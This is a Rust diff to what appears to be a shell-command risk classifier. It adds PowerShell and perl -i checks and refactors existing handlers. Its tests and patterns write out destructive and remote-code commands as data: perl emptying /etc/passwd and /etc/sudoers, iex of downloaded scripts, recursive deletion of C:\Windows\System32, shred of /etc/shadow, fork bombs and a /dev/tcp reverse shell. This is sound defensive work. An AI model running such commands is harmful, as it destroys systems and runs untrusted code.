@@ -9,20 +9,12 @@ use crate::risk::prelude::*;
 pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
     match name {
         "eval" => analyze_eval(ctx, acc),
-        "source" | "." => {
-            if let Some(w) = ctx.positionals().first() {
-                run_written(&w.text, ctx.depth, acc);
-            }
-            script_from_stream(ctx, acc);
-            if ctx
-                .eff
-                .args
-                .iter()
-                .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
-            {
-                acc.danger("sources a script downloaded from the network");
-            }
+        // PowerShell cmdlets typed at a PowerShell prompt.
+        "Remove-Item" | "Invoke-Expression" | "iex" => {
+            let text = format!("{name} {}", quote_words(ctx.eff.args));
+            powershell(&text, acc);
         }
+        "source" | "." => source(ctx, acc),
         "su" => {
             if let Some(i) = ctx
                 .args
@@ -34,94 +26,172 @@ pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
                 }
             }
         }
-        "perl" | "ruby" => {
-            // `perl -pi -e …` / `-i.bak`: edits the named files in place.
-            let in_place = ctx.args.iter().any(|a| {
-                a.starts_with('-')
-                    && !a.starts_with("--")
-                    && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
-                    && a.contains('i')
-                    && a[1..]
-                        .chars()
-                        .take_while(|c| *c != '.')
-                        .all(|c| c.is_ascii_lowercase())
-            });
-            if in_place {
-                acc.caution(format!("{name} -i edits files in place"));
-            }
-        }
+        "perl" | "ruby" => perl_in_place(name, ctx, acc),
         "python" | "python3" | "node" => {}
         // `tmux new -d 'CMD'`, `screen -dm CMD…`, `xterm -e CMD…`: they run CMD.
-        "tmux" => {
-            let runs = ctx.positionals().first().is_some_and(|w| {
-                matches!(
-                    w.text.as_str(),
-                    "new"
-                        | "new-session"
-                        | "new-window"
-                        | "neww"
-                        | "split-window"
-                        | "splitw"
-                        | "respawn-pane"
-                )
-            });
-            if let Some(cmd) = ctx
-                .positionals()
-                .last()
-                .filter(|_| runs && ctx.positionals().len() > 1)
-            {
-                assess_script(&cmd.text, ctx.depth + 1, acc);
-            }
-        }
-        "screen" => {
-            let args = ctx.eff.args;
-            let mut j = 0;
-            while let Some(w) = args.get(j) {
-                if !w.text.starts_with('-') {
-                    break;
-                }
-                if w.text.ends_with('S')
-                    || matches!(w.text.as_str(), "-c" | "-L" | "-Logfile" | "-t" | "-p")
-                {
-                    j += 1;
-                }
-                j += 1;
-            }
-            if j < args.len() {
-                assess_script(&quote_words(&args[j..]), ctx.depth + 1, acc);
-            }
-        }
+        "tmux" => tmux(ctx, acc),
+        "screen" => screen(ctx, acc),
         "xterm"
         | "gnome-terminal"
         | "konsole"
         | "alacritty"
         | "kitty"
         | "urxvt"
-        | "x-terminal-emulator" => {
-            let args = ctx.eff.args;
-            if let Some(p) = args
-                .iter()
-                .position(|w| matches!(w.text.as_str(), "-e" | "--" | "-x" | "--command"))
-            {
-                assess_script(&quote_words(&args[p + 1..]), ctx.depth + 1, acc);
-            }
-        }
-        "chroot" => {
-            // chroot [OPTION…] DIR CMD ARG…: the command keeps all its
-            // words, options included, and runs on the system under DIR.
-            let args = ctx.eff.args;
-            let dir = args
-                .iter()
-                .position(|w| !w.text.starts_with('-') || w.quoted);
-            if let Some(i) = dir {
-                if i + 1 < args.len() {
-                    assess_script(&quote_words(&args[i + 1..]), ctx.depth + 1, acc);
-                }
-            }
-        }
+        | "x-terminal-emulator" => terminal(ctx, acc),
+        "chroot" => chroot(ctx, acc),
         _ => return false,
     }
     true
+}
+
+/// `source FILE`, `. FILE`: the file's text runs in this shell.
+fn source(ctx: &Ctx, acc: &mut Acc) {
+    if let Some(w) = ctx.positionals().first() {
+        run_written(&w.text, ctx.depth, acc);
+    }
+    script_from_stream(ctx, acc);
+    if ctx
+        .eff
+        .args
+        .iter()
+        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
+    {
+        acc.danger("sources a script downloaded from the network");
+    }
+}
+
+/// `perl -pi -e …` / `-i.bak`: edits the named files in place.
+fn perl_in_place(name: &str, ctx: &Ctx, acc: &mut Acc) {
+    // `perl -pi -e …` / `-i.bak`: edits the named files in place.
+    let in_place = ctx.args.iter().any(|a| {
+        a.starts_with('-')
+            && !a.starts_with("--")
+            && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
+            && a.contains('i')
+            && a[1..]
+                .chars()
+                .take_while(|c| *c != '.')
+                .all(|c| c.is_ascii_lowercase())
+    });
+    if in_place {
+        acc.caution(format!("{name} -i edits files in place"));
+        if name == "perl" {
+            perl_empties(ctx.args, acc);
+        }
+    }
+}
+
+/// `perl -i -ne 'print if 0' FILE`, `perl -i -pe '$_ = ""' FILE`: every line
+/// of FILE is dropped. On a system or access file that is danger, as for
+/// `sed -i '1,$d'`.
+fn perl_empties(args: &[&str], acc: &mut Acc) {
+    let cluster = |a: &str| -> String {
+        if a.starts_with('-') && !a.starts_with("--") {
+            a[1..].chars().take_while(|c| *c != '.').collect()
+        } else {
+            String::new()
+        }
+    };
+    let Some(ci) = args.iter().position(|a| cluster(a).ends_with('e')) else {
+        return;
+    };
+    let Some(code) = args.get(ci + 1) else {
+        return;
+    };
+    let prints = args[..=ci].iter().any(|a| cluster(a).contains('p'));
+    let code_ns: String = code.chars().filter(|c| !c.is_whitespace()).collect();
+    let empties = if prints {
+        matches!(
+            code_ns.trim_end_matches(';'),
+            "$_=\"\"" | "$_=''" | "undef$_" | "$_=undef" | "s/.*//s" | "s/^.*$//s"
+        )
+    } else {
+        !code_ns.contains("print") && !code_ns.contains("say")
+            || matches!(
+                code_ns.trim_end_matches(';'),
+                "printif0" | "printunless1" | "printif/^$/"
+            )
+    };
+    if !empties {
+        return;
+    }
+    let vital = |t: &str| is_critical_file(t) || is_system_file(t) || is_access_file(t);
+    if let Some(f) = args[ci + 2..].iter().find(|a| vital(a)) {
+        acc.danger(format!(
+            "perl -i deletes every line of {f}, a system or access file"
+        ));
+    } else {
+        acc.caution("perl -i empties the files");
+    }
+}
+
+/// `tmux new -d 'CMD'`: the session runs CMD.
+fn tmux(ctx: &Ctx, acc: &mut Acc) {
+    let runs = ctx.positionals().first().is_some_and(|w| {
+        matches!(
+            w.text.as_str(),
+            "new"
+                | "new-session"
+                | "new-window"
+                | "neww"
+                | "split-window"
+                | "splitw"
+                | "respawn-pane"
+        )
+    });
+    if let Some(cmd) = ctx
+        .positionals()
+        .last()
+        .filter(|_| runs && ctx.positionals().len() > 1)
+    {
+        assess_script(&cmd.text, ctx.depth + 1, acc);
+    }
+}
+
+/// `screen -dm CMD…`: the words after the options run.
+fn screen(ctx: &Ctx, acc: &mut Acc) {
+    let args = ctx.eff.args;
+    let mut j = 0;
+    while let Some(w) = args.get(j) {
+        if !w.text.starts_with('-') {
+            break;
+        }
+        if w.text.ends_with('S')
+            || matches!(w.text.as_str(), "-c" | "-L" | "-Logfile" | "-t" | "-p")
+        {
+            j += 1;
+        }
+        j += 1;
+    }
+    if j < args.len() {
+        assess_script(&quote_words(&args[j..]), ctx.depth + 1, acc);
+    }
+}
+
+/// `xterm -e CMD…` and other terminals: the words after `-e` run.
+fn terminal(ctx: &Ctx, acc: &mut Acc) {
+    let args = ctx.eff.args;
+    if let Some(p) = args
+        .iter()
+        .position(|w| matches!(w.text.as_str(), "-e" | "--" | "-x" | "--command"))
+    {
+        assess_script(&quote_words(&args[p + 1..]), ctx.depth + 1, acc);
+    }
+}
+
+/// `chroot DIR CMD…`: CMD runs on the system under DIR.
+fn chroot(ctx: &Ctx, acc: &mut Acc) {
+    // chroot [OPTION…] DIR CMD ARG…: the command keeps all its
+    // words, options included, and runs on the system under DIR.
+    let args = ctx.eff.args;
+    let dir = args
+        .iter()
+        .position(|w| !w.text.starts_with('-') || w.quoted);
+    if let Some(i) = dir {
+        if i + 1 < args.len() {
+            assess_script(&quote_words(&args[i + 1..]), ctx.depth + 1, acc);
+        }
+    }
 }
 
 pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
@@ -129,13 +199,7 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     let args = ctx.args;
     let words = ctx.eff.args;
     // Downloaded script piped into the interpreter.
-    let upstream_downloads = ctx.upstream.iter().any(|c| {
-        unwrap_cmd(&c.words)
-            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
-            || c.words
-                .iter()
-                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
-    });
+    let upstream_downloads = upstream_downloads(ctx);
     // `sh -s -- args` reads the script from stdin; words after `--` are its arguments.
     let reads_stdin = is_shell(name) && has_flag(args, 's', &[]);
     let before_ddash: Vec<Word> = words
@@ -147,31 +211,10 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
         && positionals(&before_ddash)
             .first()
             .is_some_and(|w| w.text != "-" && !w.procsub);
-    let c_index = args.iter().position(|a| {
-        a.starts_with('-')
-            && !a.starts_with("--")
-            && (a[1..].contains('c') && is_shell(name)
-                || matches!(*a, "-c" | "-e" | "-E")
-                || *a == "-r" && name == "php"
-                || a.ends_with('e')
-                    && name == "perl"
-                    && a[1..].chars().all(|c| c.is_ascii_lowercase())
-                || *a == "-Command")
-            || matches!(
-                *a,
-                "--eval" | "-eval" | "--execute" | "--command" | "-Command"
-            )
-            || *a == "-p" && matches!(name, "node" | "nodejs" | "bun")
-    });
+    let c_index = code_flag_index(name, args);
     // `deno eval CODE`, `bun eval CODE`: the subcommand takes the code.
-    if matches!(name, "deno" | "bun") {
-        let pos = positionals(words);
-        if pos.first().is_some_and(|w| w.text == "eval") {
-            if let Some(code) = pos.get(1) {
-                code_run(name, &code.text, ctx.depth, acc);
-            }
-            return;
-        }
+    if deno_eval(ctx, acc) {
+        return;
     }
     if has_script_file {
         if let Some(w) = positionals(&before_ddash).first() {
@@ -195,6 +238,65 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     {
         acc.danger(format!("pipes a downloaded script into {name}"));
     }
+    substituted_sources(ctx, acc);
+    if let Some(ci) = c_index {
+        inline_code(ctx, ci, acc);
+    }
+    reverse_shell(ctx, acc);
+}
+
+/// Whether a downloader feeds this command's input.
+fn upstream_downloads(ctx: &Ctx) -> bool {
+    ctx.upstream.iter().any(|c| {
+        unwrap_cmd(&c.words)
+            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
+            || c.words
+                .iter()
+                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
+    })
+}
+
+/// The index of the flag whose next word is code (`-c`, `-e`, `--eval`, …).
+fn code_flag_index(name: &str, args: &[&str]) -> Option<usize> {
+    args.iter().position(|a| {
+        a.starts_with('-')
+            && !a.starts_with("--")
+            && (a[1..].contains('c') && is_shell(name)
+                || matches!(*a, "-c" | "-e" | "-E")
+                || *a == "-r" && name == "php"
+                || a.ends_with('e')
+                    && name == "perl"
+                    && a[1..].chars().all(|c| c.is_ascii_lowercase())
+                || *a == "-Command")
+            || matches!(
+                *a,
+                "--eval" | "-eval" | "--execute" | "--command" | "-Command"
+            )
+            || *a == "-p" && matches!(name, "node" | "nodejs" | "bun")
+    })
+}
+
+/// `deno eval CODE`, `bun eval CODE`: the subcommand takes the code; `true`
+/// when that was the command.
+fn deno_eval(ctx: &Ctx, acc: &mut Acc) -> bool {
+    let name = ctx.eff.name.as_str();
+    if matches!(name, "deno" | "bun") {
+        let pos = positionals(ctx.eff.args);
+        if pos.first().is_some_and(|w| w.text == "eval") {
+            if let Some(code) = pos.get(1) {
+                code_run(name, &code.text, ctx.depth, acc);
+            }
+            return true;
+        }
+    }
+    false
+}
+
+/// Downloaded or decoded text given as a file (`sh <(curl …)`, `< <(…)`,
+/// `<<< "$(curl …)"`).
+fn substituted_sources(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let words = ctx.eff.args;
     if words
         .iter()
         .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
@@ -225,45 +327,55 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
             acc.danger(format!("feeds a downloaded script into {name}"));
         }
     }
-    if let Some(ci) = c_index {
-        if let Some(script) = words.get(ci + 1) {
-            if script.subs.iter().any(|s| script_downloads(s)) {
-                acc.danger(format!(
-                    "runs a downloaded script with {name} -c \"$(curl …)\""
-                ));
+}
+
+/// The code after `-c`/`-e`: a nested script for a shell, code otherwise.
+fn inline_code(ctx: &Ctx, ci: usize, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let args = ctx.args;
+    let words = ctx.eff.args;
+    if let Some(script) = words.get(ci + 1) {
+        if script.subs.iter().any(|s| script_downloads(s)) {
+            acc.danger(format!(
+                "runs a downloaded script with {name} -c \"$(curl …)\""
+            ));
+        }
+        if is_shell(name) {
+            let params: Vec<&str> = args.iter().skip(ci + 3).copied().collect();
+            let mut text = positional_params(&script.text, &params);
+            // `sh -c '$0 -rf $1' rm /etc`: the word after the script is `$0`.
+            if let Some(zero) = args.get(ci + 2).filter(|_| text.contains("$0")) {
+                text = text.replace("${0}", zero).replace("$0", zero);
             }
-            if is_shell(name) {
-                let params: Vec<&str> = args.iter().skip(ci + 3).copied().collect();
-                let mut text = positional_params(&script.text, &params);
-                // `sh -c '$0 -rf $1' rm /etc`: the word after the script is `$0`.
-                if let Some(zero) = args.get(ci + 2).filter(|_| text.contains("$0")) {
-                    text = text.replace("${0}", zero).replace("$0", zero);
-                }
-                assess_script(&text, ctx.depth + 1, acc);
-            } else {
-                let code = script.text.replace(' ', "");
-                if code.contains("forkwhilefork")
-                    || code.contains("os.fork()") && code.contains("while")
-                    || code.contains("fork()while")
-                {
-                    acc.danger(format!("{name} fork bomb"));
-                }
-                if code.contains("shutil.rmtree('/')")
-                    || code.contains("shutil.rmtree(\"/\")")
-                    || code.contains("rmtree(os.path.expanduser('~'))")
-                {
-                    acc.danger(format!("{name} deletes the whole filesystem or home"));
-                }
-                code_run(name, &script.text, ctx.depth, acc);
-                runs_its_arguments(
-                    &script.text,
-                    &args[(ci + 2).min(args.len())..],
-                    ctx.depth,
-                    acc,
-                );
+            assess_script(&text, ctx.depth + 1, acc);
+        } else {
+            let code = script.text.replace(' ', "");
+            if code.contains("forkwhilefork")
+                || code.contains("os.fork()") && code.contains("while")
+                || code.contains("fork()while")
+            {
+                acc.danger(format!("{name} fork bomb"));
             }
+            if code.contains("shutil.rmtree('/')")
+                || code.contains("shutil.rmtree(\"/\")")
+                || code.contains("rmtree(os.path.expanduser('~'))")
+            {
+                acc.danger(format!("{name} deletes the whole filesystem or home"));
+            }
+            code_run(name, &script.text, ctx.depth, acc);
+            runs_its_arguments(
+                &script.text,
+                &args[(ci + 2).min(args.len())..],
+                ctx.depth,
+                acc,
+            );
         }
     }
+}
+
+/// Reverse shells: `bash -i >& /dev/tcp/host/port 0>&1`.
+fn reverse_shell(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
     // Reverse shells: bash -i >& /dev/tcp/host/port 0>&1
     if is_shell(name)
         && ctx.cmd.redirs.iter().any(|r| {
@@ -375,6 +487,113 @@ fn code_run(name: &str, code: &str, depth: usize, acc: &mut Acc) {
         assess_script(&inner, depth + 1, acc);
     }
     code_effects(name, code, depth, acc);
+    if matches!(
+        name.to_ascii_lowercase().as_str(),
+        "pwsh" | "powershell" | "pwsh.exe" | "powershell.exe"
+    ) {
+        powershell(code, acc);
+    }
+}
+
+/// PowerShell text: `iex (iwr …)` runs what it downloads (danger), any other
+/// `Invoke-Expression` runs text computed at run time (caution), and
+/// `Remove-Item -Recurse` is judged by the tree it names.
+fn powershell(code: &str, acc: &mut Acc) {
+    let toks: Vec<String> = code
+        .split(|c: char| c.is_whitespace() || "();{}".contains(c))
+        .filter(|t| !t.is_empty())
+        .map(|t| t.to_ascii_lowercase())
+        .collect();
+    let lc = code.to_ascii_lowercase();
+    let runs_text = toks
+        .iter()
+        .any(|t| matches!(t.as_str(), "iex" | "invoke-expression"));
+    let downloads = toks.iter().any(|t| {
+        matches!(
+            t.as_str(),
+            "iwr" | "irm" | "invoke-webrequest" | "invoke-restmethod" | "curl" | "wget"
+        )
+    }) || lc.contains("downloadstring")
+        || lc.contains("net.webclient");
+    if runs_text && downloads {
+        acc.danger(
+            "PowerShell runs text downloaded from the network (Invoke-Expression of a download)",
+        );
+    } else if runs_text {
+        acc.caution("PowerShell Invoke-Expression runs text computed at run time");
+    }
+    for stmt in code.split([';', '|', '\n']) {
+        ps_remove(stmt, acc);
+    }
+}
+
+/// One PowerShell statement: `Remove-Item -Recurse PATH` (and its aliases).
+fn ps_remove(stmt: &str, acc: &mut Acc) {
+    let words: Vec<&str> = stmt
+        .split(|c: char| c.is_whitespace() || "(){}".contains(c))
+        .filter(|t| !t.is_empty())
+        .collect();
+    let Some(first) = words.first() else {
+        return;
+    };
+    let remove = matches!(
+        first.to_ascii_lowercase().as_str(),
+        "remove-item" | "ri" | "rd" | "rmdir" | "del" | "erase"
+    );
+    let recurse = words
+        .iter()
+        .any(|w| w.len() > 2 && "-recurse".starts_with(&w.to_ascii_lowercase()));
+    if !remove || !recurse {
+        return;
+    }
+    let paths = words[1..]
+        .iter()
+        .filter(|w| !w.starts_with('-'))
+        .map(|w| w.trim_matches(['"', '\'']));
+    match paths.clone().find(|p| ps_vital_path(p)) {
+        Some(p) => acc.danger(format!(
+            "PowerShell Remove-Item -Recurse deletes {p}, a system or home tree"
+        )),
+        None => acc.caution("PowerShell Remove-Item -Recurse deletes a tree"),
+    }
+}
+
+/// A Windows system or home tree, or a path the POSIX classes call vital.
+fn ps_vital_path(p: &str) -> bool {
+    let l = p.trim_end_matches(['\\', '/']).to_ascii_lowercase();
+    let l = l.replace('/', "\\");
+    const VARS: &[&str] = &[
+        "$home",
+        "~",
+        "$env:userprofile",
+        "$env:homepath",
+        "$env:systemroot",
+        "$env:windir",
+        "$env:programfiles",
+        "$env:programdata",
+        "$env:appdata",
+        "$env:systemdrive",
+    ];
+    let drive_root = l.len() == 2 && l.ends_with(':');
+    let system = [
+        "windows",
+        "users",
+        "program files",
+        "program files (x86)",
+        "programdata",
+    ]
+    .iter()
+    .any(|d| {
+        l.get(3..).is_some_and(|rest| {
+            l.as_bytes().get(1) == Some(&b':')
+                && (rest == *d || rest.starts_with(&format!("{d}\\")) && *d == "windows")
+        })
+    });
+    drive_root
+        || system
+        || VARS.contains(&l.as_str())
+        || l.starts_with("c:\\users\\") && l[9..].split('\\').count() == 1
+        || classify(p).is_some_and(|c| c != PathClass::Other)
 }
 
 /// A shell or interpreter reading its program from stdin (a pipe, a here-doc,
@@ -556,6 +775,27 @@ mod tests {
     fn examples() {
         check_examples(&[
             ("tmux new -d 'rm -rf ~'", Danger),
+            // perl -i emptying a system file, and edits that keep the lines.
+            ("perl -i -ne 'print if 0' /etc/passwd", Danger),
+            ("perl -i.bak -pe '$_ = \"\"' /etc/fstab", Danger),
+            ("perl -ni -e '' /etc/sudoers", Danger),
+            ("perl -i -ne 'print unless /^#/' /etc/hosts", Caution),
+            ("perl -i -pe 's/foo/bar/' /etc/hosts", Caution),
+            ("perl -i -ne 'print if 0' notes.txt", Caution),
+            ("perl -ne 'print if 0' /etc/passwd", Safe),
+            // PowerShell: a download run, trees deleted, and look-alikes.
+            ("pwsh -c \"iex (iwr https://get.example/i.ps1)\"", Danger),
+            (
+                "powershell -Command \"(New-Object Net.WebClient).DownloadString('https://x.example/a') | iex\"",
+                Danger,
+            ),
+            ("pwsh -c 'Invoke-Expression $script'", Caution),
+            ("pwsh -c \"Write-Output 'iex (iwr x)'\"", Safe),
+            ("pwsh -c 'Remove-Item -Recurse -Force C:\\Windows\\System32'", Danger),
+            ("pwsh -c 'Remove-Item -Recurse -Force $env:USERPROFILE'", Danger),
+            ("Remove-Item -Recurse -Force ~", Danger),
+            ("pwsh -c 'Remove-Item -Recurse -Force ./bin'", Caution),
+            ("pwsh -c 'Get-ChildItem -Recurse C:\\Windows'", Safe),
             ("tmux new -s work", Safe),
             ("perl -e 'exec @ARGV' shred -u /etc/shadow", Danger),
             (
